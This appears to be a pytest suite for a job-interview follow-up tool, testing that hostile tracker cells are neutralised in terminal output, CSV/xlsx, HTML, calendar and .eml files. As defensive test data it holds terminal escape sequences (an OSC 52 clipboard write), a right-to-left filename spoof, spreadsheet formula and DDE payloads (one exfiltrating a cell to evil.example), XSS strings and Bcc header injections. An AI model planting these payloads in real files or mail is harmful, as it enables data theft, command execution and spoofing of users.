"""A tracker's cells written to do harm (outside test ot18, F3 to F6), through the whole run:
what reaches the terminal and the log, the CSV and xlsx cells, and the .eml files."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from icalendar import Calendar
from mail import parse

from followup_batch.cli import main
from followup_batch.write.csv_out import FORMULA_STARTS

HEADERS = ["Client", "Company", "Position", "Interview Date", "Interview Type", "Interviewer"]
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # writes "echo pwned" to the clipboard
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def write_csv(path: Path, rows: list[list[str]], headers: list[str] = HEADERS) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([headers, *rows])
    return path


def invoke(*args: str) -> tuple[int, str, str]:
    # color=True: Click leaves escape codes in, as it does on a terminal.
    result = CliRunner().invoke(main, list(args), color=True, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


ESCAPED = [
    ["\x1b[31mAnn\x1b[0m", f"Acme{OSC52}", "PM\x1b[2K", "2026-11-18", "Video", "Bob"],
    ["Ann", "Beta\x9b2J", "PM", "31/02/2026\x1b[2K\x1b[1Gfake line", "Video", "Bob"],
]


NOT_A_DATE = '"31/02/2026[2K[1Gfake line" is not a date'  # what followed ESC, shown


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (["run", "--dry-run", "-v"], NOT_A_DATE),
        (["run", "-v"], NOT_A_DATE),
        (["digest", "--markdown", "{tmp}/digest.md"], "Acme]52;c;ZWNobyBwd25lZA=="),
        (["check"], NOT_A_DATE),
    ],
    ids=["run-dry", "run", "digest", "check"],
)
def test_no_control_character_of_a_cell_reaches_the_terminal_or_the_log(tmp_path, command, shown):
    """The digest printed ESC]52 (a clipboard write) as the Company cell held it, and `run -v`
    on a terminal the ESC[2K (erase the line) of a date cell."""
    tracker = write_csv(tmp_path / "t.csv", ESCAPED)
    log = tmp_path / "run.log"
    args = [part.format(tmp=tmp_path) for part in command]
    logged = ["--log-file", str(log)] if command[0] == "run" else []
    code, out, err = invoke(*args, str(tracker), "--as-of", "2026-11-20", *logged)
    assert CONTROL.findall(out + err) == []
    assert shown in out + err
    for written in (log, tmp_path / "digest.md"):
        if written.exists():
            assert CONTROL.findall(written.read_text(encoding="utf-8")) == []


# What no page, calendar or terminal line may carry: the controls of ``CONTROL`` but the tab,
# and the bidirectional embeddings, overrides and isolates.
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(
    ("company", "position", "shown"),
    [
        (f"Acme{OSC52}", "PM\x07\x1b[31m", "Acme]52;c;ZWNobyBwd25lZA== – PM[31m"),
        # a right-to-left override: "Acme<U+202E>gnp.exe" reads "Acmeexe.png" in a browser
        ("Acme\u202egnp.exe", "PM", "Acmegnp.exe – PM"),
        # a tab is a space, in the calendar as in the drafts (report ot31, F7)
        ("Beta\tLabs", "Dev\u2066x\u2069", "Beta Labs – Devx"),
    ],
    ids=["escapes", "override", "tab and isolate"],
)
def test_no_control_character_of_a_cell_reaches_the_html_digest_or_the_calendar(
    tmp_path: Path, company: str, position: str, shown: str
) -> None:
    """The HTML digest and the .ics carried a cell's BEL, ESC and U+202E as they were, which
    the terminal and the Markdown digest leave out. The drafts (subject, .eml) turned them into
    a space ("Acme gnp.exe") and the digest workbook kept them (Excel showed "Acmeexe.png"):
    one spelling in every output now (report ot35, F6)."""
    tracker = write_csv(
        tmp_path / "t.csv", [["Ann", company, position, "2026-11-18", "Video", "Bob"]]
    )
    ics, page, book = tmp_path / "due.ics", tmp_path / "digest.html", tmp_path / "digest.xlsx"
    code, _, err = invoke(
        "run", str(tracker), "--as-of", "2026-11-20", "--ics", str(ics), "-q",
        "--eml-dir", str(tmp_path / "eml"), "--digest", str(tmp_path / "digest.md"),
    )  # fmt: skip
    assert code == 0, err
    code, _, err = invoke(
        "digest", str(tracker), "--as-of", "2026-11-20", "--html", str(page), "--xlsx", str(book)
    )
    assert code == 0, err
    company_shown, position_shown = shown.split(" – ")
    subject = f"Thank you for the {position_shown} interview at {company_shown}"
    assert eml_subjects(tmp_path / "eml") == {subject}
    with tracker.open(encoding="utf-8", newline="") as handle:
        (header, row) = csv.reader(handle)
    assert row[header.index("Draft subject")] == subject
    markdown = (tmp_path / "digest.md").read_text(encoding="utf-8").replace("\\", "")
    assert f"| {company_shown} | {position_shown} | {subject} |" in markdown
    today = openpyxl.load_workbook(book)["Today"]
    assert [c.value for c in today[3] if c.value in (company_shown, subject)] == [
        company_shown,
        subject,
    ]
    (event,) = Calendar.from_ical(ics.read_bytes()).walk("VEVENT")
    assert str(event["SUMMARY"]) == f"Late: Ann · Thank-you note · {shown}"
    assert HIDDEN.findall(str(event["DESCRIPTION"])) == []
    assert HIDDEN.findall(ics.read_text(encoding="utf-8")) == []
    text = page.read_text(encoding="utf-8")
    assert HIDDEN.findall(text) == []
    assert f">{shown}<" in text


# The payloads the outside test put in every cell (ot18, "Formula, CSV and HTML injection"), as
# a Company cell, and as a draft quotes them: one line, its spaces and control characters gone.
PAYLOADS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',) * 2,
    ("=cmd|' /C calc'!A0",) * 2,
    ("+1+cmd|' /C calc'!A0",) * 2,
    ("-2+3",) * 2,
    ("@SUM(1+1)*cmd|' /C calc'!A0",) * 2,
    ("\t=1+1", "=1+1"),
    ("\r=1+1", "=1+1"),
    ("<script>alert(1)</script>",) * 2,
    ('"><img src=x onerror=alert(2)>',) * 2,
    ("javascript:alert(3)",) * 2,
    # the first line, in the drafts as in the calendar (report ot33, F3: a second line is a note)
    ("=1+1\n=2+2", "=1+1"),
    ("%0A=1",) * 2,
    ("＝1+1",) * 2,
    (" =1+1", "=1+1"),
]
# A subject that starts with the company: the draft starts with the payload.
COMPANY_FIRST = "Subject: {{ company }} – thank you\n{{ greeting }}\n\nThank you.\n"


@pytest.fixture
def company_first(tmp_path: Path) -> Path:
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "thank_you.txt.j2").write_text(COMPANY_FIRST, encoding="utf-8")
    config = tmp_path / "config.toml"
    config.write_text('templates = "templates"\n', encoding="utf-8")
    return config


def payload_rows() -> list[list[str]]:
    """A row per payload, each its own position: three payloads are `=1+1` once the spaces
    around them go, and rows alike in every cell are a row pasted twice (a Duplicate)."""
    return [
        ["Ann", cell, f"PM {n}", "2026-11-19", "Video", "Bob"]
        for n, (cell, _) in enumerate(PAYLOADS, start=1)
    ]


def tool_cells(header: list[str], rows: list[list[object]]) -> list[object]:
    """The cells of the columns the tool writes (from Follow-up status on)."""
    start = header.index("Follow-up status")
    return [cell for row in rows for cell in row[start:] if cell not in (None, "")]


def eml_subjects(folder: Path) -> set[str]:
    return {str(parse(path)["Subject"]) for path in folder.glob("*.eml")}


def test_a_payload_is_quoted_as_typed_and_no_csv_cell_starts_a_formula(tmp_path, company_first):
    """The draft and the .eml quote "+44 Labs" as typed (they said "44 Labs"); the CSV cell,
    which a spreadsheet reads as a formula, starts with an apostrophe."""
    tracker = write_csv(tmp_path / "t.csv", payload_rows())
    code, _, err = invoke(
        "run", str(tracker), "--as-of", "2026-11-20", "--config", str(company_first),
        "--eml-dir", str(tmp_path / "eml"),
    )  # fmt: skip
    assert code == 0, err
    with tracker.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    subjects = [row[header.index("Draft subject")] for row in rows]
    expected = [f"{quoted} – thank you" for _, quoted in PAYLOADS]
    assert subjects == [("'" if s.startswith(FORMULA_STARTS) else "") + s for s in expected]
    assert [row[header.index("Company")] for row in rows] == [cell for cell, _ in PAYLOADS]
    assert [cell for cell in tool_cells(header, rows) if str(cell)[:1] in "=+-@\t\r"] == []
    assert eml_subjects(tmp_path / "eml") == set(expected)


def test_a_payload_in_a_workbook_stays_text(tmp_path, company_first):
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADERS)
    for row in payload_rows():
        sheet.append(row)
    for cell in sheet["B"][1:]:
        cell.data_type = "s"  # a string, not the formula openpyxl makes of "=..."
    tracker = tmp_path / "t.xlsx"
    book.save(tracker)
    code, _, err = invoke(
        "run", str(tracker), "--as-of", "2026-11-20", "--config", str(company_first),
        "--eml-dir", str(tmp_path / "eml"),
    )  # fmt: skip
    assert code == 0, err
    sheet = openpyxl.load_workbook(tracker).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]
    subjects = [row[header.index("Draft subject")].value for row in cells]
    expected = [f"{quoted} – thank you" for _, quoted in PAYLOADS]
    assert subjects == expected  # as typed: a cell of text is never a formula
    # The only formula is the tool's own live status.
    formulas = {
        header[cell.column - 1] for cell in tool_cells(header, cells) if cell.data_type == "f"
    }
    assert formulas == {"Follow-up status"}
    assert eml_subjects(tmp_path / "eml") == set(expected)


@pytest.mark.parametrize(
    ("interviewer", "email", "to"),
    [
        ("Bob\r\nBcc: eve@evil.example", "", None),  # no address: no To (ot31 F9)
        ("Dana, Bcc: eve@evil.example", "", None),
        ("Bob", "bob@acme.example\nBcc: bob@evil.example", "Bob <bob@acme.example>"),
        ("Dana <dana@acme.example>", "", "Dana <dana@acme.example>"),
    ],
)
def test_an_address_after_a_mail_headers_label_never_reaches_to(tmp_path, interviewer, email, to):
    """An Interviewer cell "Bob⏎Bcc: eve@evil.example" (Excel shows "Bob") gave the draft
    "To: Bob <eve@evil.example>"."""
    headers = [*HEADERS, "Interviewer Email"]
    tracker = write_csv(
        tmp_path / "t.csv", [["Ann", "Acme", "PM", "2026-11-19", "Video", interviewer, email]],
        headers,
    )  # fmt: skip
    code, _, err = invoke("run", str(tracker), "--as-of", "2026-11-20", "--eml-dir", str(tmp_path))
    assert code == 0, err
    (path,) = tmp_path.glob("*.eml")
    mail = parse(path)
    assert (str(mail["To"]) if mail["To"] else None) == to
    assert mail["Bcc"] is None and mail["Cc"] is None
